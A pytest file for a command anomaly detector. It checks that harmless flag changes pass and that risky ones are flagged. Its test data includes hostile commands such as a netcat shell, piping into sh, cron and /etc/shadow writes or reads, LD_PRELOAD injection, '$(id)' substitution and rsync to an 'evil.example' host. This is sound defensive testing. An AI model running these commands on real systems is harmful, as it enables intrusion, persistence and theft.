# SPDX-License-Identifier: Apache-2.0
"""Each rule by which something never seen is no news, beside what may not hide behind it."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from habitus_leaves import leaf_of, novel
from habitus_profiler.forms import form_of

PASSES = [
    # what the rule is about, learned, asked
    ("a port: the network's trie shows who listens", "app run", "app run --port 8081"),
    (
        "a setting behind a letter tells by itself",
        "kcat -b k.svc",
        "kcat -b k.svc -X auto.offset.reset=earliest",
    ),
    ("a letter's off is a word", "sendmail -t", "sendmail -t -N never"),
    (
        "a word with marks is no code",
        "ffmpeg -i /in/a.mp4",
        "ffmpeg -i /in/a.mp4 -movflags +faststart -map 0:a",
    ),
    ("two words that together mean something else", "mc cp a b", "mc cp --storage-class STANDARD_IA a b"),
    ("how much is told, wherever", "app run", "app run --log-level-console detail"),
    ("what happens only at a failure", "java -jar a.jar", "java -XX:+HeapDumpOnOutOfMemoryError -jar a.jar"),
    ("options handed on are read as flags", "deno run", "deno run --v8-flags=--max-old-space-size=2048"),
    ("a list of mild parts", "roach start", "roach start --store=path=/data,size=80%"),
    ("a scratch place for what is scratch", "gunicorn a:b", "gunicorn a:b --worker-tmp-dir /dev/shm"),
    ("a program's own socket", "haproxy -db", "haproxy -db -x /var/run/haproxy.sock"),
    ("gauges are read by anybody", "app -l 0.0.0.0:80", "app -l 0.0.0.0:80 --metrics-address 0.0.0.0:9100"),
    ("this machine alone", "app run", "app run --statsd-host 127.0.0.1"),
    ("a place where only data lie", "app run", "app run --limit @/var/lib/app/retry/x.retry"),
    ("settings beside known ones", "app -c /etc/app/a.yaml", "app -c /etc/app/b.yaml"),
    ("a host beside a known one", "app --host a.shop.example", "app --host b.shop.example"),
    ("a module of an rsync server", "rsync /a m-1.files.svc::x/", "rsync /a m-2.files.svc::y/"),
    ("a command given as one argument", "rsync -e 'ssh -i /k/a' /a", "rsync -e 'ssh -i /k/a -p 2222' /a"),
    ("a pattern of names", "tar -tf /backup/a.tgz", "tar -tf /backup/a.tgz --wildcards '*.conf'"),
    ("what only reads, behind a pipe", "sh -c 'app run'", "sh -c 'app run | tail -n 5'"),
    ("writing anew where one appends", "sh -c 'a >> /var/log/a'", "sh -c 'a > /var/log/a'"),
    ("rows written another way", "psql -c 'UPDATE a SET b = 1'", "psql -c 'INSERT INTO a VALUES (1)'"),
    ("a kind of workload", "kubectl restart deployment/a", "kubectl restart statefulset/b"),
    ("a folder where sources lie", "helm lint umbrella/a", "helm lint charts/b"),
    (
        "a tool's letters by its script",
        "python3 -m celery -A shop worker",
        "python3 -m celery -A shop worker -O fair",
    ),
    ("a variable with a harmless value", "env A=1 app", "env A=1 LOG_LEVEL=debug TZ=Europe/Berlin app"),
    ("what is tidied away", "app run", "app run --drop-duplicates --reset-stats --max-delete 100"),
    ("what may be missing", "app run", "app run --allow-empty --allow-missing"),
    ("amounts of what protects", "app run", "app run --verify-retries 30 --token-ttl 15m"),
    ("what is left out", "app run", "app run --exclude=/proc/x --exclude-table=shop.secrets"),
    ("a program's own settings", "coredns -quiet", "coredns -conf /etc/coredns/Corefile"),
    ("what data are called", "app run sensors/a", "app run sensors/a --topic actuators/b"),
    ("a language, no program", "app run", "app run --target node --platform python"),
    ("a switch behind a flag that has its value", "celery --app=a worker", "celery --app=a beat"),
    ("a pool that a program brings", "gunicorn a:b", "gunicorn a:b --worker-class gevent"),
    ("a switch of Python", "python3 -m a.b", "python3 -X dev -m a.b"),
    (
        "the domain of a known host",
        "app --to a@shop.example",
        "app --to a@shop.example --host db.shop.example",
    ),
    ("a file that ends as a zone does", "app -f Containerfile", "app -f Containerfile.test"),
    ("a measure", "app -t EPSG:4326", "app -t EPSG:3857 --bits rsa:2048"),
    ("a name of the own namespace", "nc -z orders-db 5432", "nc -z carts-redis 6379"),
    ("a Service by its whole name", "app --url=pg://orders-db/a", "app --url=pg://orders-db.prod.svc/a"),
    ("a label, no host", "app run", "app run --label app.kubernetes.io/name"),
    ("settings beside the code that runs", "java -jar /app/a.jar", "java -jar /app/a.jar /app/log.xml"),
    ("a pattern at any depth", "lint src/a.ts", "lint 'src/**/*.ts'"),
    (
        "a word of a shared folder",
        "app --home /usr/share/app",
        "app --home /usr/share/app --lang /usr/share/app",
    ),
    ("a comparison", "app run", "app run --where id>5 --format '%(h)s'"),
    ("a regular expression", "app run", "app run --regex '^(?!(mysql|sys))'"),
    ("for which stage", "app run", "app run --profile release -c production"),
    ("letters of a program that no table names", "tiler a", "tiler a -r bilinear -M fill -R"),
    (
        "data written beside known data",
        "sh -c 'app /backup/a.db'",
        "sh -c 'app /backup/a.db > /backup/b.txt'",
    ),
    ("several URLs", "app --urls http://a.shop.svc", "app --urls 'http://a.shop.svc;http://b.shop.svc'"),
    ("a probe of this machine", "sh -c 'a b && a c'", "sh -c 'a b && nc -z 127.0.0.1 8080'"),
    ("what awk counts", "sh -c 'df -h'", """sh -c 'df -h | awk "NR > 1 { print }"'"""),
    ("a group of resources", "app run", "app run --api-versions monitoring.example.com/v1"),
    ("a socket by its scheme", "app --a /csi/csi.sock", "app --a unix:///csi/csi.sock"),
    ("what to do at a conflict", "app run", "app run --on-conflict update"),
    ("an amount behind settings", "app run", "app run --config retention.ms=86400000"),
]
STAYS_NEWS = [
    ("an address behind a port's flag", "app run", "app run --port 203.0.113.4:80"),
    ("a port that debugs", "node a.js", "node --inspect 9229 a.js"),
    ("letters that listen", "x run", "x -lvnp 4444"),
    ("a setting that loads", "kcat -b k.svc", "kcat -b k.svc -X plugin.library.paths=x.so"),
    ("a setting behind a flag that is obeyed", "app run", "app run --config a.b=evil"),
    ("a setting of a program that reaches", "ssh a.svc", "ssh -o ProxyCommand=x a.svc"),
    ("code in a word", "app run", "app run --title '$(id)'"),
    ("a class of code", "mc cp a b", "mc cp --loader-class Evil a b"),
    ("a level beside a protection", "app run", "app run --auth-level none"),
    ("what runs at a failure", "java -jar a.jar", "java -XX:OnError=id -jar a.jar"),
    ("code handed on", "deno run", "deno run --node-flags=--require=/tmp/x"),
    ("a list that names code", "app run", "app run --store=plugin=/data/x,size=1"),
    ("code in a scratch place", "gunicorn a:b", "gunicorn a:b --worker-tmp-dir /dev/shm/x.py"),
    ("a hidden scratch place", "gunicorn a:b", "gunicorn a:b --worker-tmp-dir /tmp/.x"),
    ("a scratch place for anything else", "gunicorn a:b", "gunicorn a:b --chdir /dev/shm"),
    ("another program's socket", "haproxy -db", "haproxy -db -x /var/run/docker.sock"),
    ("a runtime's own socket", "docker ps", "docker ps -x /var/run/docker.sock"),
    ("an own name on a hidden path", "haproxy -db", "haproxy -db -x /run/haproxy/.x"),
    ("a debugger on every address", "app -l 0.0.0.0:80", "app -l 0.0.0.0:80 --pprof-address 0.0.0.0:6060"),
    ("configuration from this machine", "app run", "app run --config http://127.0.0.1/x"),
    ("a web root", "app run", "app run --output /var/www/html/x"),
    ("another machine's files", "app run", "app run --path /host/etc/x"),
    ("a folder whose files are run", "app run", "app run --output /app/bin/server"),
    ("cron's folder", "app -c /etc/cron.d/a", "app -c /etc/cron.d/b"),
    ("a key beside a key", "app -c /etc/app/a.key", "app -c /etc/app/b.key"),
    ("a neighbour at a hoster", "app --host a.mongodb.net", "app --host b.mongodb.net"),
    ("another owner's rsync server", "rsync /a m-1.files.svc::x/", "rsync /a m-1.evil.example::x/"),
    (
        "a hidden option of a command",
        "rsync -e 'ssh -i /k/a' /a",
        "rsync -e 'ssh -i /k/a -o ProxyCommand=x' /a",
    ),
    ("another command", "rsync -e 'ssh -i /k/a' /a", "rsync -e 'sh -c id' /a"),
    ("a shell behind a pipe", "sh -c 'app run'", "sh -c 'app run | sh'"),
    ("what a pipe writes elsewhere", "sh -c 'app run'", "sh -c 'app run | tee /etc/crontab'"),
    ("writing elsewhere", "sh -c 'a >> /var/log/a'", "sh -c 'a > /etc/profile.d/a'"),
    ("rows destroyed", "psql -c 'UPDATE a SET b = 1'", "psql -c 'DELETE FROM a'"),
    ("a secret is no workload", "kubectl get deployment/a", "kubectl get secret/b"),
    ("another owner's chart", "helm lint corp/a", "helm lint evil/a"),
    (
        "an application by another name",
        "python3 -m celery -A shop worker",
        "python3 -m celery -A evil worker",
    ),
    ("a variable that finds code", "env A=1 app", "env A=1 LD_AUDIT=/data/a app"),
    ("a variable that hides traces", "env A=1 app", "env A=1 HISTFILE=/dev/null app"),
    ("a protection by a digit", "env A=1 app", "env A=1 PYTHONHTTPSVERIFY=0 app"),
    ("a flag by another first letter", "npm ci", "npm ci --_authToken=x"),
    ("an address within a word", "dns -k", "dns -k --address=/shop.example/198.51.100.66"),
    ("an address in a text", "yq . /m/a.yaml", "yq '.image = \"203.0.113.4/x\"' /m/a.yaml"),
    ("a host's powers in a text", "yq . /m/a.yaml", "yq '.spec.hostPID = true' /m/a.yaml"),
    ("what reads settings", "otel --config /etc/o/c.yaml", "otel --config env:EVIL"),
    ("a module that is a shell", "uvicorn shop:app", "uvicorn shell:app"),
    ("what a server hides", "dump --input=http://es.svc:9200/a", "dump --input=http://es.svc:9200/.security"),
    ("keys by name", "find /data -name a", "find /data -name .ssh"),
    ("a loader switched on", "java -jar a.jar", "java -Dparams.loader.enabled=true -jar a.jar"),
    ("a namespace of the system", "velero restore a", "velero restore a --map shop:kube-system"),
    ("a probe of another machine", "sh -c 'test -f /x'", "sh -c 'test -f /x && nc -z 203.0.113.9 80'"),
    ("a shell for this machine", "sh -c 'test -f /x'", "sh -c 'test -f /x && nc -e /bin/sh 127.0.0.1 80'"),
    ("what awk runs", "sh -c 'df -h'", """sh -c 'df -h | awk "{ system(1) }"'"""),
    ("where awk writes", "sh -c 'df -h'", """sh -c 'df -h | awk "{ print > \\"/etc/cron.d/x\\" }"'"""),
    ("another socket", "app --a /csi/csi.sock", "app --a unix:///run/docker.sock"),
    ("a command at an error", "app run", "app run --on-error-command evil"),
    ("what is destroyed", "app run", "app run --drop-tables"),
    ("a trifle does not cover for a command", "app run", "app run --reset-stats-command x"),
    ("what must not be missing", "app run", "app run --allow-unsigned --allow-root"),
    ("how little protects", "app run", "app run --min-password-length 1"),
    ("a file that lists what is left out", "app run", "app run --exclude-from /etc/shadow"),
    ("a policy that is ignored", "trivy run", "trivy run --ignore-policy /dev/shm/p.rego"),
    ("another program's settings", "coredns -quiet", "coredns -conf /etc/other/Corefile"),
    ("a file that is only called as the program is", "shadow a", "shadow /etc/shadow"),
    ("a folder of the machine's own", "kubernetes a", "kubernetes /etc/kubernetes/admin.conf"),
    ("a server's keys by its name", "sshd -D", "sshd -D -f /etc/ssh/evil_config"),
    ("a key among a program's own", "haproxy -db", "haproxy -db -x /etc/haproxy/b.key"),
    ("settings of the machine", "cron -f", "cron -f -L /etc/cron.d/x"),
    ("a power before own settings", "radio /etc/radio/a.liq", "radio --enable-telnet /etc/radio/a.liq"),
    ("a place behind a topic", "app run", "app run --topic /etc/shadow"),
    ("a program behind a flag", "app run", "app run --shell bash"),
    ("a program behind a language", "app run --target web", "app run --target web sh"),
    ("a worker's class of one's own", "gunicorn a:b", "gunicorn a:b --worker-class evil.Worker"),
    ("a setting of Python that loads", "python3 -m a.b", "python3 -X presite=evil -m a.b"),
    ("another domain", "app --to a@shop.example", "app --to a@shop.example --host db.shop.evil.example"),
    ("a domain that strangers share", "app --to a.github.io", "app --to b.github.io"),
    ("another owner's image", "app --image quay.io/corp/a:1", "app --image quay.io/c0rp/a:1"),
    ("a host in a query", "app --url=pg://db/a", "app --url=pg://db/a?f=http://203.0.113.9/x"),
    ("another bucket", "app s3://corp-data/a", "app s3://c0rp-data/a"),
    ("a host behind a switch", "curl -s a.svc", "curl -s evil"),
    ("a host behind a user", "sqlplus a@//db.shop.svc/x", "sqlplus a@//203.0.113.9/x"),
    ("a registry under a label's name", "app run", "app run registry.k8s.io/evil"),
    ("settings beside data", "prom --path=/prom", "prom --path=/prom --config.file=/prom/x.yml"),
    ("settings from a stream", "app --config /etc/app/a.yaml", "app --config /dev/fd/63"),
    ("settings that anybody sends", "coredns -conf /etc/coredns/a", "coredns -conf stdin"),
    ("a program that is run in a comparison", "app run", "app run --where '$(id)>5'"),
    ("a call that looks like a pattern", "app run", "app run --regex '^system(x).*'"),
    ("a pipe that looks like a choice", "app run", "app run --regex 'x|sh'"),
    ("writing where others may", "sh -c 'app /backup/a.db'", "sh -c 'app /backup/a.db > /tmp/b'"),
    ("code that a program hands on", "uv run python -m a.b", "uv run python -c 'import socket'"),
    ("a shell that a program hands on", "app exec a", "app exec a bash -c id"),
    ("rights for all by another program", "hdfs dfs -ls /a", "hdfs dfs -chmod -R 777 /a"),
    ("a path in a document", "app -i '{}'", """app -i '{"dir":"/etc"}'"""),
    ("a namesake of another owner", "app --map=corp/a", "app --map=evil/a"),
    ("code behind a flag and a colon", "esbuild --loader:a", "esbuild --inject:/tmp/i.js"),
    ("a double denial", "flyway info", "flyway -cleanDisabled=false info"),
    ("who owns a database", "app run", "app run as sysdba"),
]


@pytest.mark.parametrize(
    ("learned", "asked"), [case[1:] for case in PASSES], ids=[case[0] for case in PASSES]
)
def test_what_can_do_no_harm_is_no_news(learned, asked):
    """No other host, no code, no secret, no place where things are run from."""
    assert novel(leaf_of(learned), asked) == []


@pytest.mark.parametrize(
    ("learned", "asked"), [case[1:] for case in STAYS_NEWS], ids=[case[0] for case in STAYS_NEWS]
)
def test_what_could_do_harm_does_not_hide_behind_it(learned, asked):
    """The same spelling with a danger mark in it."""
    assert novel(leaf_of(learned), asked)


MARKS = [
    ["--token", "x"],
    ["--privileged"],
    ["-o", "/etc/cron.d/x"],
    ["--config", "/tmp/x.conf"],
    ["http://203.0.113.9/x"],
    ["--plugin", "evil"],
    ["--insecure"],
    ["x@203.0.113.9:/y"],
    ["LD_PRELOAD=/tmp/x.so"],
    ["/run/secrets/db"],
]


@given(st.sampled_from([asked for _, learned, asked in PASSES if "'" not in asked]), st.sampled_from(MARKS))
def test_a_danger_mark_is_news_behind_anything_that_passes(asked, mark):
    """What is mild does not cover for what stands behind it."""
    argv = (*shlex.split(asked), *mark)
    leaf = leaf_of(asked)
    assert any(not leaf.slots.knows(slot) for slot in form_of(argv).slots)
